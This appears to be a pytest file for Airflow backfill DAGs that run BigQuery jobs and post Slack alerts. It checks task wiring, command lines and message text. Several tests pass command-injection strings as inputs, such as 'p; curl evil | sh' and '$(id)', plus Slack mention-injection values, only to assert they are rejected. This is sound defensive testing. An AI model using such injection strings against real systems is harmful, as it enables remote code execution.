"""Registered backfills: how they are looked for, what is done and said of each entry, and which entries are refused."""

from __future__ import annotations

from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import jinja2
import pytest
from airflow.providers.slack.hooks.slack import SlackHook
from airflow.sdk.exceptions import AirflowFailException, ParamValidationError

from tests.dags.forms import filled_in

if TYPE_CHECKING:
    from airflow.sdk import DAG

VERBS = ("initiate", "complete")
ENTRY = {
    "qualified_table_name": "mozdata.orchard_derived.days_v1",
    "staging_table": "moz-fx-data-shared-prod.backfills_staging_derived.orchard_derived__days_v1_2026_06_01",
    "backup_table": "moz-fx-data-shared-prod.backfills_staging_derived.orchard_derived__days_v1_backup_2026_06_01",
    "watchers": ["gardener@example.com", "data.keeper@example.com"],
}
KEPT = {"initiate": ENTRY["staging_table"], "complete": ENTRY["backup_table"]}
SAID = {
    "started": "prepare_slack_{verb}_message",
    "ended": "prepare_slack_processing_complete_parameters",
    "failed": "prepare_slack_failure_message",
}


def task(dags: dict[str, DAG], verb: str, name: str) -> Any:
    return dags[f"bqetl_backfill_{verb}"].get_task(f"{verb}_backfill.{name}")


def said(dags: dict[str, DAG], verb: str, when: str, **differing: Any) -> str:
    """A post about an entry."""
    prepare = task(dags, verb, SAID[when].format(verb=verb))
    text: str = prepare.python_callable(ENTRY | differing, *prepare.op_args[1:])
    return text


def line(dags: dict[str, DAG], verb: str, params: dict[str, Any], **differing: Any) -> str:
    """The shell line for an entry."""
    prepare = task(dags, verb, "prepare_pod_parameters")
    (words,) = prepare.python_callable(ENTRY | differing, *prepare.op_args[1:], params=params)
    return str(words)


@pytest.mark.parametrize("verb", VERBS)
def test_entries_are_looked_for_every_hour(dags: dict[str, DAG], verb: str) -> None:
    detect: Any = dags[f"bqetl_backfill_{verb}"].get_task("detect_backfills")

    def words(project: Any) -> list[str]:
        context = {"params": {"project_id": project}}
        return [word for part in (detect.cmds, detect.arguments) for word in part(context, jinja2.Environment())]

    command = f"script/bqetl backfill scheduled --status={verb.title()} --json_path=/airflow/xcom/return.json --ignore-old-entries"
    assert words(None) == ["sh", "-c", command]
    assert words("mozdata") == ["sh", "-c", f"{command} --project-id=mozdata"]
    assert detect.do_xcom_push is True
    with pytest.raises(AirflowFailException, match=r"project_id='p; curl evil | sh' is not allowed"):
        words("p; curl evil | sh")


@pytest.mark.parametrize("verb", VERBS)
@pytest.mark.parametrize("hostile", [{"project_id": "p; curl evil | sh"}, {"project_id": "$(id)"}])
def test_a_hostile_project_starts_no_run(dags: dict[str, DAG], verb: str, hostile: dict[str, Any]) -> None:
    with pytest.raises(ParamValidationError):
        filled_in(dags[f"bqetl_backfill_{verb}"], **hostile)


@pytest.mark.parametrize("parallelism", [0, 51, "6; id"])
def test_parallelism_has_bounds(dags: dict[str, DAG], parallelism: Any) -> None:
    dag = dags["bqetl_backfill_initiate"]
    assert filled_in(dag) == {"project_id": None, "parallelism": 6}
    with pytest.raises(ParamValidationError):
        filled_in(dag, parallelism=parallelism)


def test_an_entry_is_carried_out_in_its_own_project(dags: dict[str, DAG]) -> None:
    table = "mozdata.orchard_derived.days_v1 --copy-table-permissions --project-id=mozdata"
    asked = {"project_id": "some-other-project", "parallelism": 9}
    assert line(dags, "initiate", asked) == f"script/bqetl backfill initiate {table} --parallelism=9"
    assert line(dags, "complete", {"project_id": None}) == f"script/bqetl backfill complete {table}"
    for verb in VERBS:
        process = task(dags, verb, "process_backfill")
        assert process.cmds({}, jinja2.Environment()) == ["sh", "-c"]
        assert process.arguments.operator.task_id == f"{verb}_backfill.prepare_pod_parameters"
        assert process.retries == 0, "it refuses to write into the staging table of the try before"


HOSTILE = ("mozdata.d.t; curl evil | sh", "mozdata.d.t`id`", "d.t", "mozdata.d.t\n", "--help", "", None)


@pytest.mark.parametrize("verb", VERBS)
@pytest.mark.parametrize("table", HOSTILE)
def test_a_hostile_table_reaches_no_shell_and_no_post(dags: dict[str, DAG], verb: str, table: Any) -> None:
    with pytest.raises(AirflowFailException, match=r"qualified_table_name=.* is not allowed"):
        line(dags, verb, {"parallelism": 6}, qualified_table_name=table)
    for when in SAID:
        with pytest.raises(AirflowFailException, match=r"qualified_table_name=.* is not allowed"):
            said(dags, verb, when, qualified_table_name=table)


def test_a_partition_is_no_table_to_backfill(dags: dict[str, DAG]) -> None:
    with pytest.raises(AirflowFailException, match="qualified_table_name="):
        line(dags, "initiate", {"parallelism": 6}, qualified_table_name="mozdata.d.t$20260601")


@pytest.mark.parametrize("verb", VERBS)
@pytest.mark.parametrize("when", SAID)
def test_watchers_are_told(dags: dict[str, DAG], verb: str, when: str) -> None:
    text = said(dags, verb, when)
    assert text.startswith("<@gardener> <@data.keeper> :")
    assert "`mozdata.orchard_derived.days_v1`" in text
    names_what_is_kept = when == "failed" or (verb, when) == ("initiate", "ended")
    assert (KEPT[verb] in text) is names_what_is_kept
    assert ("delete `" in text) is (when == "failed")
    assert said(dags, verb, when, watchers=[]).startswith(":"), "nobody needs to watch"


@pytest.mark.parametrize("watcher", ["x> <!channel>@example.com", "!here", "gardener", "<@U1>@example.com", None])
def test_nobody_else_can_be_called(dags: dict[str, DAG], watcher: Any) -> None:
    with pytest.raises(AirflowFailException, match=r"watcher=.* is not allowed"):
        said(dags, "initiate", "started", watchers=["gardener@example.com", watcher])


@pytest.mark.parametrize("verb", VERBS)
def test_the_post_comes_before_the_pod_and_after_it(dags: dict[str, DAG], verb: str) -> None:
    first, last = task(dags, verb, "slack_notify_initate"), task(dags, verb, "slack_notify_processing_complete")
    process = task(dags, verb, "process_backfill")
    assert first.task_id in process.upstream_task_ids
    assert last.task_id in process.downstream_task_ids
    assert first.text.operator.task_id.endswith(SAID["started"].format(verb=verb))
    assert last.text.operator.task_id.endswith(SAID["ended"])
    assert (first.channel, first.username, first.slack_conn_id) == (
        "#dataops-alerts",
        "airflow-bot",
        "slack_airflow_bot",
    )


@pytest.mark.parametrize("verb", VERBS)
def test_a_pod_that_failed_is_posted_with_what_to_delete(
    dags: dict[str, DAG], verb: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: dict[str, Any] = {}
    posted: list[dict[str, Any]] = []

    def xcom_pull(**given: Any) -> str:
        asked.update(given)
        return said(dags, verb, "failed")

    monkeypatch.setattr(SlackHook, "__init__", lambda self, **_: None)
    monkeypatch.setattr(SlackHook, "call", lambda self, method, json: posted.append(json))
    process = task(dags, verb, "process_backfill")
    (notifier,) = process.on_failure_callback
    ti = SimpleNamespace(xcom_pull=xcom_pull, map_index=2, log_url="http://host/log")
    notifier({"ti": ti, "dag": dags[f"bqetl_backfill_{verb}"]})
    assert asked == {"task_ids": f"{verb}_backfill.prepare_slack_failure_message", "map_indexes": 2}
    (message,) = posted
    assert message["text"].endswith(" <http://host/log|Log>")
    assert f"delete `{KEPT[verb]}`" in message["text"]
    assert message["channel"] == "#dataops-alerts"


@pytest.mark.parametrize("verb", VERBS)
def test_each_entry_is_mapped(dags: dict[str, DAG], verb: str) -> None:
    groups: Any = dags[f"bqetl_backfill_{verb}"].task_group.get_task_group_dict()
    sources = {operator.task_id for operator in groups[f"{verb}_backfill"].iter_mapped_dependencies()}
    assert sources == {"detect_backfills"}
